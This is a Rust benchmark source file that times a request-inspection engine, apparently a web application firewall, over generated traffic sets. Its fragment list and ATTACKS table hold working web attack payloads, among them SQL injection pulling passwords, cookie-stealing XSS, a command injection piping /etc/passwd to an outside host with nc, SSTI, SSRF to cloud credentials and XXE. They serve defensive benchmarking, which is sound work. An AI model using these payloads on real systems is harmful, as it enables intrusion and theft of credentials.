//! Time and instructions of `inspect()` over thousands of distinct inputs.
//!
//! ```text
//! cargo bench --bench inspect                       # microseconds, best of five rounds over the whole set
//! cargo bench --bench inspect -- "JSON 2 KB"        # one set
//! benches/instructions                              # instructions a request, counted by callgrind
//! ```
//!
//! One repeated input would show the caches of the regex engines, not their work: each set holds distinct requests made
//! from a seed. The hostile set is glued from fragments of attacks, so that prefilters and confirmations run all the time.

mod sets;

use sets::{Random, WORDS, get, json, json_of_api, post, sentence};
use std::hint::black_box;
use std::time::Instant;
use weir_core::engine::{InspectionOptions, Scratch, inspect};
use weir_core::parse::message;
use weir_core::ruleset::{Ruleset, builtin, compile};

/// Rounds over each set; the best counts, for the machine may be busy.
const ROUNDS: usize = 5;

/// Member names of the API in whose documents they come again; in the other sets of JSON they are any two of 115 words.
const API_NAMES: usize = 1000;

const FRAGMENTS: &[&str] = &[
    "' or 1=1-- ",
    "union all select ",
    "<script>",
    "onerror=",
    "../../",
    "etc/passwd",
    "${jndi:",
    "{{7*7}}",
    ";cat ",
    "$(id)",
    "`whoami`",
    "javascript:",
    "<svg/onload=",
    "sleep(5)",
    "/*!50000",
    "%0d%0a",
    "file:///",
    "http://169.254.169.254/",
    "base64,",
    "<!ENTITY x SYSTEM ",
    "O:8:\"",
    "waitfor delay ",
    "concat(0x7e,",
    "\\u003c",
    "&#x3c;",
    "(|(uid=*",
    "<!--#exec ",
    "<?php ",
];

fn form(r: &mut Random, size: usize) -> Vec<u8> {
    let mut body = String::new();
    while body.len() < size {
        let words = 1 + r.below(8);
        body.push_str(&format!("{}_{}={}&", r.pick(WORDS), r.below(99), sentence(r, words).replace(' ', "+")));
    }
    body.pop();
    post(r, "application/x-www-form-urlencoded", body.as_bytes())
}

fn multipart(r: &mut Random, size: usize) -> Vec<u8> {
    let mut file = Vec::with_capacity(size);
    while file.len() < size {
        if r.below(2) == 0 {
            file.extend_from_slice(sentence(r, 12).as_bytes());
        } else {
            file.extend_from_slice(&r.next().to_le_bytes());
        }
    }
    let mut body = b"--x7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.bin\"\r\n\r\n".to_vec();
    body.extend_from_slice(&file);
    body.extend_from_slice(b"\r\n--x7--\r\n");
    post(r, "multipart/form-data; boundary=x7", &body)
}

fn hostile(r: &mut Random, size: usize) -> Vec<u8> {
    let mut text = String::new();
    while text.len() < size {
        text.push_str(r.pick(FRAGMENTS));
        if r.below(3) == 0 {
            text.push_str(r.pick(WORDS));
        }
    }
    let body = serde_json::json!({"q": text, "id": r.below(1000)}).to_string();
    post(r, "application/json", body.as_bytes())
}

/// One attack of a class, among ordinary parameters.
fn attack(r: &mut Random, payload: &str) -> Vec<u8> {
    let body = serde_json::json!({"id": r.below(99_999), "name": sentence(r, 2), "q": payload}).to_string();
    post(r, "application/json", body.as_bytes())
}

const ATTACKS: &[(&str, &str)] = &[
    ("attack sqli", "1' UNION ALL SELECT NULL,concat(user,0x3a,password) FROM users-- -"),
    ("attack xss", "\"><img src=x onerror=alert(document.cookie)>"),
    ("attack rce", "127.0.0.1; cat /etc/passwd | nc 203.0.113.5 4444"),
    ("attack ptrav", "../../../../../../etc/shadow"),
    ("attack ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("attack ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("attack xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("attack nosqli", "{\"user\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
    ("attack ldapi", "*)(uid=*))(|(uid=*"),
    ("attack crlf", "x\r\nSet-Cookie: session=evil"),
];

struct Set {
    name: &'static str,
    requests: Vec<Vec<u8>>,
}

/// Makes one request.
type Make = Box<dyn Fn(&mut Random) -> Vec<u8>>;

/// A set before its requests are made.
struct Recipe {
    name: &'static str,
    count: usize,
    make: Make,
}

impl Recipe {
    fn new(name: &'static str, count: usize, make: impl Fn(&mut Random) -> Vec<u8> + 'static) -> Self {
        Self { name, count, make: Box::new(make) }
    }

    /// The first `most` requests: each set has its own seed, so that no set depends on which others are made.
    fn cook(&self, most: usize) -> Set {
        let mut r = Random(self.name.bytes().fold(7, |seed, b| seed * 31 + u64::from(b)));
        Set { name: self.name, requests: (0..self.count.min(most)).map(|_| (self.make)(&mut r)).collect() }
    }
}

fn recipes() -> Vec<Recipe> {
    let json_post = |size| {
        move |r: &mut Random| {
            let body = json(r, size);
            post(r, "application/json", body.as_bytes())
        }
    };
    let mut out = vec![
        Recipe::new("GET 300 B", 4000, get),
        Recipe::new("JSON 2 KB", 3000, json_post(2048)),
        Recipe::new("JSON 2 KB, API", 3000, |r| {
            let body = json_of_api(r, 2048, API_NAMES);
            post(r, "application/json", body.as_bytes())
        }),
        Recipe::new("JSON 64 KB", 100, json_post(65_536)),
        Recipe::new("form 2 KB", 3000, |r| form(r, 2048)),
        Recipe::new("multipart 1 MB", 8, |r| multipart(r, 1 << 20)),
        Recipe::new("hostile 1.8 KB", 2000, |r| hostile(r, 1800)),
    ];
    out.extend(ATTACKS.iter().map(|&(name, payload)| Recipe::new(name, 500, move |r| attack(r, payload))));
    out
}

fn round(set: &Set, ruleset: &Ruleset, scratch: &mut Scratch) -> (f64, usize) {
    let plan = InspectionOptions::default();
    let begin = Instant::now();
    let mut attacks = 0;
    for raw in &set.requests {
        let message = message::request(black_box(raw));
        attacks += usize::from(
            black_box(inspect(&message, ruleset, &plan, scratch, &|| false)).findings.iter().any(|f| f.decisive),
        );
    }
    (begin.elapsed().as_secs_f64() * 1e6 / set.requests.len() as f64, attacks)
}

/// What callgrind collects: a round over the set, once the caches of the regex engines are warm.
#[inline(never)]
fn counted(set: &Set, ruleset: &Ruleset, scratch: &mut Scratch) -> (f64, usize) {
    round(set, ruleset, scratch)
}

fn main() {
    let ruleset = compile::compile(&builtin::files()).expect("built-in rules compile");
    let mut scratch = Scratch::default();
    let arguments: Vec<String> = std::env::args().skip(1).filter(|a| a != "--bench").collect();
    match arguments.as_slice() {
        [] => {}
        [flag] if flag == "--list" => return recipes().iter().for_each(|recipe| println!("{}", recipe.name)),
        // `--once NAME N`: what callgrind counts, the first N requests of a set.
        [flag, name, most] if flag == "--once" => {
            let recipe = recipes().into_iter().find(|r| r.name == name).expect("a set of this name");
            let set = recipe.cook(most.parse().expect("a number"));
            black_box(round(&set, &ruleset, &mut scratch));
            black_box(counted(&set, &ruleset, &mut scratch));
            println!("{}", set.requests.len());
            return;
        }
        names if names.iter().all(|name| recipes().iter().any(|recipe| recipe.name == name)) => {}
        _ => panic!("usage: inspect [SET... | --list | --once SET N]"),
    }
    let wanted = |recipe: &Recipe| arguments.is_empty() || arguments.iter().any(|name| name == recipe.name);
    println!("{} signatures, {} detectors", ruleset.signatures.len(), weir_core::detect::TABLE.len());
    println!("{:16} {:>6} {:>9} {:>11} {:>9} {:>9}", "set", "n", "bytes", "us/request", "MB/s", "attacks");
    for set in recipes().iter().filter(|recipe| wanted(recipe)).map(|recipe| recipe.cook(usize::MAX)) {
        let bytes = set.requests.iter().map(Vec::len).sum::<usize>() / set.requests.len();
        let rounds: Vec<(f64, usize)> = (0..ROUNDS).map(|_| round(&set, &ruleset, &mut scratch)).collect();
        let best = rounds.iter().map(|r| r.0).fold(f64::INFINITY, f64::min);
        println!(
            "{:16} {:>6} {bytes:>9} {best:>11.2} {:>9.1} {:>9}",
            set.name,
            set.requests.len(),
            bytes as f64 / best,
            rounds[0].1
        );
    }
}
